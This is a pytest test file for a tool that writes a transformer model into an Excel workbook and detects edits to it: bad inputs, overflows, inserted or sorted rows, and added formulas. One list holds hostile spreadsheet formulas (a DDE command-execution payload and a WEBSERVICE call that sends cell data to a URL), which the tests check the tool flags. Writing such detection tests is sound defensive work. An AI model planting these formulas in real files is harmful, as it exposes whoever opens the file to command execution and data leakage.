"""Cells that hold no value of their kind, or that nobody built: all are told, none ends it."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import InIronCalc, cli, random_model, typed
from libreoffice import Command, office
from on_play import ID_ROW
from openpyxl import load_workbook

import cellformer as cf
from cellformer.engine import InputError, ModelSpec
from cellformer.engine.models.generate import passage
from cellformer.exporters.assemble import model_workbook
from cellformer.exporters.checking.programs import XLSX
from cellformer.exporters.edits import edited
from cellformer.exporters.file.xlsx import write
from cellformer.exporters.model.model_book import ModelBook

pytestmark = pytest.mark.slow

HEAD = "blocks.1.attn.h0"
SPEC = ModelSpec(3, 3, 4, n_layers=2, n_heads=1, d_head=2, d_mlp=2)


@pytest.fixture(scope="module")
def book() -> ModelBook:
    model = random_model(SPEC)
    return model_workbook.build("two-layers", model, passage(model, [1, 2]))


@pytest.fixture(scope="module")
def path(book: ModelBook, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write(book, tmp_path_factory.mktemp("two") / "two-layers.xlsx")


def changed(path: Path, target: Path, change: Callable[[Any], None]) -> Path:
    """A copy that openpyxl saves, which knows errors and truth values."""
    sheets = load_workbook(path)
    change(sheets)
    sheets.save(target)
    return target


def put(book: ModelBook, sheets: Any, name: str, i: int, j: int, value: Any) -> str:
    """Type into a cell of a block; gives its name."""
    sheet, row, col = book.cell(name, i, j)
    sheets[sheet].cell(row + 1, col + 1).value = value
    return f"{name}[{i},{j}]"


# what is put where, and what that is said to count as
BAD = [
    (f"{HEAD}.W_Q", 1, 0, "#DIV/0!", "an error: results that use the cell count as 0"),
    (f"{HEAD}.W_Q", 1, 1, "0,5", "a text: counts as 0"),
    (f"{HEAD}.W_K", 0, 0, None, "empty: counts as 0"),
    (f"{HEAD}.W_K", 0, 1, True, "a truth value: counts as 1"),
    ("blocks.0.mlp.switch", 0, 0, "off", "a text: counts as 0"),
    ("top_k", 0, 0, "many", "a text"),
]
OVER = [
    (f"{HEAD}.scores", 1, 0, "hello", "a text in place of a formula"),
    (f"{HEAD}.scores", 1, 1, "#N/A", "an error in place of a formula"),
]


@pytest.fixture(scope="module")
def bad(book: ModelBook, path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every one of them in one file, and a weight that is a number."""

    def change(sheets: Any) -> None:
        for name, i, j, value, _ in [*BAD, *OVER]:
            put(book, sheets, name, i, j, value)
        put(book, sheets, "W_E", 0, 0, 0.75)

    return changed(path, tmp_path_factory.mktemp("bad") / "bad.xlsx", change)


def test_diff_lists_bad_cells(bad: Path) -> None:
    done = cli("diff", bad)
    assert done.code == 0 and done.err == ""
    rows = {row.split()[0]: row for row in done.out.splitlines() if "[" in row}
    for name, i, j, _, counts in [*BAD, *OVER]:
        assert rows[f"{name}[{i},{j}]"].rstrip().endswith(counts)
    assert "0.75" in rows["W_E[0,0]"]
    assert f"({HEAD}.scores[1,0]) contains a text in place of a formula, so the cells" in done.out


def test_bad_cells_in_python(bad: Path) -> None:
    found = cf.read(bad)
    assert {c.name: c.counts for c in found.inputs if c.counts} == {
        f"{name}[{i},{j}]": counts for name, i, j, _, counts in BAD
    }
    assert [c.counts for c in found.overwritten] == [counts for *_, counts in OVER]
    with pytest.raises(
        InputError, match="contains a text in place of a formula, so the cells that read it cannot"
    ):
        found.live()


def test_import_names_every_bad_weight(bad: Path, tmp_path: Path) -> None:
    done = cli("import", bad, "-o", tmp_path / "model")
    assert done.code == 2 and done.err.count("\n") == 1
    found = cf.read(bad)
    assert len(found.unheld) == 7  # the dial is of no checkpoint
    assert all(cell.where in done.err for cell in found.unheld[:6]) and "1 more" in done.err
    assert not (tmp_path / "model").exists()


def test_effect_of_bad_cells_equals_the_sheet(book: ModelBook, path: Path, tmp_path: Path) -> None:
    """Texts and blanks in weights, switches, dials, as a spreadsheet program counts them."""
    cells: dict[tuple[str, int, int], float | str] = {
        book.cell(f"{HEAD}.W_Q", 1, 1): "0,5",
        book.cell("blocks.0.mlp.W_in", 0, 0): "",
        book.cell(f"{HEAD}.switch", 0, 0): "off",
        book.cell("W_U", 2, 2): "1.000,5",
        book.cell("top_p", 0, 0): "most",
        book.cell("temperature", 0, 0): "cold",
        book.cell("W_E", 1, 1): 1e30,
    }
    sheet = InIronCalc(path)
    found = edited.read(typed(path, tmp_path / "edited.xlsx", cells))
    assert len(found.inputs) == len(cells)
    with sheet.typed(cells):
        for name in ("logits", "tokens", "choice.chosen"):
            place = book.places[name]
            for i, j in place.block.whole.cells():
                shown = sheet[(place.sheet, *place.cell(i, j))]
                assert shown == pytest.approx(found.live()[name][i, j], rel=1e-9), (name, i, j)


def test_impossible_id_is_reported(path: Path, tmp_path: Path) -> None:
    file = typed(path, tmp_path / "t.xlsx", {("Play", ID_ROW, 3): 99})
    done = cli("diff", file)
    assert done.code == 0
    assert (
        "99 is not an id of" in done.out and "the cells that read it cannot be computed" in done.out
    )


def test_overflow_is_reported(book: ModelBook, path: Path, tmp_path: Path) -> None:
    cells = {book.cell("blocks.0.mlp.W_in", 0, 0): 1e308, book.cell("W_E", 1, 0): 1e308}
    done = cli("diff", typed(path, tmp_path / "t.xlsx", cells))
    assert done.code == 0
    assert "1e+308" in done.out and "is not a finite number, because of an overflow" in done.out


def test_write_with_edits_equals_typing(book: ModelBook, tmp_path: Path) -> None:
    edits = {("W_E", 1, 2): 0.25, ("sentence", 0, 0): "w1 w0"}
    found = cf.read(cf.write(book, tmp_path / "t.xlsx", edits))
    assert found.values == edits and found.overwritten == found.labels == found.added == []
    for cell, value, fault in [
        (("W_E", 9, 0), 1.0, "W_E"),
        (("W_EE", 0, 0), 1.0, "no block is named"),
        (("W_E", 0, 0), "a", "is not a number"),
    ]:
        with pytest.raises(InputError, match=fault):
            cf.write(book, tmp_path / "other.xlsx", {cell: value})
    assert not (tmp_path / "other.xlsx").exists()


# --- cells that were added ------------------------------------------------------------------------

RISKS = [
    '=WEBSERVICE("http://example.org/"&B2)',
    "=cmd|'/C calc'!A0",
    "=[1]Sheet1!$A$1",
    '=HYPERLINK("http://example.org","click")',
]


def test_added_formulas_are_listed(path: Path, tmp_path: Path) -> None:
    def change(sheets: Any) -> None:
        for k, formula in enumerate(RISKS):
            sheets["Block 0"].cell(200 + k, 1).value = formula
        sheets["Play"]["Z99"] = "my note"

    file = changed(path, tmp_path / "t.xlsx", change)
    done = cli("diff", file)
    assert done.code == 0
    assert "nothing of the original cells differs" in done.out
    told = "5 cells were added, 4 of them with formulas; the first is 'Block 0'!A200: =WEB"
    assert told in done.out
    for k, formula in enumerate(RISKS):
        assert f"'Block 0'!A{200 + k}  {formula}" in done.out
    assert "programs; check these formulas before you open the file" in done.out
    done = cli("import", file, "-o", tmp_path / "model")
    assert done.code == 0
    assert "0 changes" in done.out and "=WEBSERVICE(" in done.out


def test_added_sheets_are_listed(path: Path, tmp_path: Path) -> None:
    def change(sheets: Any) -> None:
        sheets["Start"]["J40"] = RISKS[0]
        sheets.create_sheet("Mine")["A1"] = RISKS[0]
        sheets["Mine"]["A2"] = "=1+1"
        sheets["Source"]["C3"] = RISKS[2]

    done = cli("diff", changed(path, tmp_path / "t.xlsx", change))
    assert (
        done.out.count("=WEBSERVICE(") == 3 and "Start!J40" in done.out
    )  # the first is told twice
    assert (
        "Start!J40" in done.out
        and "Mine!A1" in done.out
        and "Source!C3" in done.out
        and "=1+1" not in done.out
    )


def test_added_note_is_listed(path: Path, tmp_path: Path) -> None:
    def change(sheets: Any) -> None:
        sheets["Play"]["Z99"] = "my note"

    done = cli("diff", changed(path, tmp_path / "t.xlsx", change))
    assert "nothing of the original cells differs" in done.out and "Play!Z99: my note" in done.out
    assert "programs; check these formulas before" not in done.out


# --- what stands elsewhere ------------------------------------------------------------------------


def test_inserted_row_is_one_sentence(tmp_path: Path) -> None:
    """Where no label stands beside it, the words themselves tell."""
    file = write(cf.build("cat-sat"), tmp_path / "c.xlsx")
    moved = changed(file, tmp_path / "m.xlsx", lambda sheets: sheets["Text"].insert_rows(9))
    done = cli("diff", moved)
    assert done.code == 2 and done.err.count("\n") == 1
    assert "a row was inserted in sheet 'Text' near row" in done.err and "undo that" in done.err


def test_sorted_list_is_one_sentence(tmp_path: Path) -> None:
    built = cf.build("cat-sat")
    file = write(built, tmp_path / "c.xlsx")
    words = [str(word) for word in built.graph.values["text.later"][:, 0]]
    places = [built.cell("text.later", k, 0) for k in range(len(words))]
    cells = dict(zip(places, sorted(words, reverse=True), strict=True))
    assert words != sorted(words, reverse=True)
    done = cli("diff", typed(file, tmp_path / "t.xlsx", cells))
    assert done.code == 2 and done.err.count("\n") == 1
    assert "cells of sheet 'Text', rows" in done.err and "were sorted" in done.err


def test_swapped_weights_are_two_edits(book: ModelBook, path: Path, tmp_path: Path) -> None:
    a, b = book.cell("W_E", 0, 0), book.cell("W_E", 1, 0)
    values = [float(book.values["W_E"][i, 0]) for i in (1, 0)]
    found = edited.read(typed(path, tmp_path / "t.xlsx", dict(zip((a, b), values, strict=True))))
    assert [c.name for c in found.inputs] == ["W_E[0,0]", "W_E[1,0]"]


def test_inserted_rows_in_libreoffice(tmp_path: Path, libreoffice) -> None:
    """Not on the sheets whose formulas follow; nor is an input that was cut and pasted elsewhere
    a list that was sorted."""
    path = write(cf.build("cat-sat"), tmp_path / "c.xlsx")
    spread = write(cf.build("two-layers"), tmp_path / "t.xlsx")  # it has the sheet Words
    acts: list[tuple[Command, str]] = [
        (("insert rows", "Block 0", 29, 1), "a row was inserted in sheet 'Block 0' near row 30"),
        (("delete rows", "Block 0", 29, 1), "a row was deleted in sheet 'Block 0' near row 30"),
        (("insert columns", "Block 0", 3, 2), "2 columns were inserted in sheet 'Block 0' near"),
        (("insert rows", "Play", 30, 2), "2 rows were inserted in sheet 'Play' near row 31"),
        (
            ("sort", "Words", "B6:B15", 0, "up"),
            "cells of sheet 'Words', rows 6 to 15, have changed",
        ),
        (("cut", "Play", "C25:C25", "Z60"), "temperature[0,0]"),
    ]
    _, name, *_ = XLSX.split(":")
    files = [tmp_path / f"{k}.xlsx" for k in range(len(acts))]
    commands: list[Command] = []
    for (act, _), file in zip(acts, files, strict=True):
        opened = spread if act[1] == "Words" else path
        commands += [("open", opened.as_uri()), ("compute",), ("unprotect",), act]
        commands += [("save", file.as_uri(), name, ""), ("close",)]
    office().does(commands)
    for (act, told), file in zip(acts, files, strict=True):
        done = cli("diff", file)
        assert told in done.out + done.err, act
        assert done.code == 0 or done.err.count("\n") == 1
